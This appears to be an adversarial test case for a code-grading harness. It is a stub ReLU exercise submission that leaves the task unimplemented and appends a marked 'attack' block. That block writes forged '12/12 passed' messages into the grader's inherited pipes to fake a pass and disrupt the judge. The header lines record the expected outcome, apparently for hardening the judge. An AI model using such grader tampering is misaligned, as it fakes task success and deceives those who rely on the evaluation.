# attack: write to every pipe inherited from the zygote and the judge (the forkserver's "alive" pipe ends
# attack: the zygote; the resource tracker's pipe prints to the judge's stderr), then close them
# exercise: exercise2
# expect: not_attempted
# host: engine_survives
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import gc
import os
import stat
from multiprocessing.connection import Connection

keep = {obj.fileno() for obj in gc.get_objects() if isinstance(obj, Connection) and not obj.closed}
for fd in range(3, 256):
    if fd in keep:
        continue
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b"REGISTER:{{MARK}} forged 12/12 passed:noop\nPROBE:x:y\n" * 4)
    except OSError:
        pass
# --- end attack ---
